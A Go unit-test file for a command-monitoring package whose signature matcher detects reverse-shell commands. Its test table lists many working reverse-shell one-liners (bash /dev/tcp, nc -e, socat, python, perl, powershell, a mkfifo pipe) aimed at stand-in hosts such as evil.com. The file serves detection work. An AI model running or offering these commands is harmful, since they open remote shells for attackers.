package monitor

import "testing"

func TestSignatures_Match(t *testing.T) {
	sigs := DefaultSignatures()

	tests := []struct {
		command string
		want    bool
	}{
		{"bash -i >& /dev/tcp/evil.com/4444 0>&1", true},
		{"nc -e /bin/sh 10.0.0.1 4444", true},
		{"ncat -c bash attacker.example 9001", true},
		{"socat tcp:evil.com:4444 exec:/bin/sh", true},
		{"python -c 'import socket,os;s=socket.socket();s.connect((\"1.2.3.4\",4444))'", true},
		{"perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a)'", true},
		{"ruby -rsocket -e 'TCPSocket.open(\"1.2.3.4\",4444)'", true},
		{"php -r '$s=fsockopen(\"1.2.3.4\",4444);'", true},
		{"powershell -nop -c \"$c = New-Object Net.Sockets.TCPClient('1.2.3.4',4444)\"", true},
		{"rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 1234 > /tmp/f", true},

		// Structural pass only.
		{"nc 10.0.0.1 4444 -e /bin/sh", true},
		{"sudo netcat -lvp 4444 -e /bin/bash", true},
		{"ncat attacker.example 9001 --sh-exec /bin/sh", true},
		{"bash -c 'ncat attacker.example 9001 --sh-exec /bin/sh'", true},
		{"cat < /dev/udp/10.0.0.1/53", true},

		{"echo hello", false},
		{"ls -la /tmp", false},
		{"rsync -e ssh src/ host:dst/", false},
		{"nc -zv example.com 443", false},
		{"curl https://example.com", false},
		{"bash -c 'echo ok'", false},
	}

	for _, tt := range tests {
		if got := sigs.Match(tt.command); got != tt.want {
			t.Errorf("Match(%q) = %v, want %v", tt.command, got, tt.want)
		}
	}
}

func TestSignatures_UnparseableFallsBackToRegex(t *testing.T) {
	sigs := DefaultSignatures()
	// Unbalanced quote: the shell parser fails, the regex pass still fires.
	if !sigs.Match("bash -i >& /dev/tcp/evil.com/4444 0>&1 '") {
		t.Error("expected regex match on unparseable command")
	}
	if sigs.Match("echo 'unterminated") {
		t.Error("unparseable benign command flagged")
	}
}

func TestNewSignatureSet_InvalidPattern(t *testing.T) {
	if _, err := NewSignatureSet([]string{"("}); err == nil {
		t.Error("expected compile error")
	}
}
